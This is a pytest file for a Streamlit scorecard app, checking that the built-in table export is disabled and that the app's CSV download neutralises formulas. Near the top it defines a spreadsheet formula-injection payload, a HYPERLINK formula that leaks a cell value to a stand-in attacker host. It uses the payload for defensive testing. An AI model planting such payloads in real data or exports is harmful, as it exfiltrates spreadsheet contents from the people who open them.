"""Table downloads: Streamlit's own (unneutralised) CSV export is off, ours is neutralised."""

from __future__ import annotations

import tomllib

import pytest

from tests.pages.conftest import ROOT, run_page, table_by_key
from tests.pages.downloads import capture_downloads, csv_rows
from tests.pages.small_county import AS_OF, LEADER, WEIBAN

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'



@pytest.fixture
def downloads(monkeypatch):
    return capture_downloads(monkeypatch)


def test_streamlits_own_table_export_is_switched_off():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_leader_downloads_the_ranking_with_the_formula_neutralised(county, downloads):
    with county.transaction() as cur:
        cur.execute("UPDATE units SET name = ? WHERE unit_id = ?", [HYPERLINK, WEIBAN])
    at = run_page("scorecards", LEADER, AS_OF)
    assert not at.exception
    ranking = table_by_key(at, "scorecards_ranking")
    assert HYPERLINK in ranking["单位名称"].tolist()  # the table shows the name as it is
    assert "下载CSV" in [b.label for b in at.download_button]
    rows = csv_rows(downloads["单位排名.csv"])
    names = [row[rows[0].index("单位名称")] for row in rows[1:]]
    assert "'" + HYPERLINK in names and HYPERLINK not in names
    scores = [row[rows[0].index("综合得分")] for row in rows[1:]]
    assert scores and all(not s.startswith("'") for s in scores)
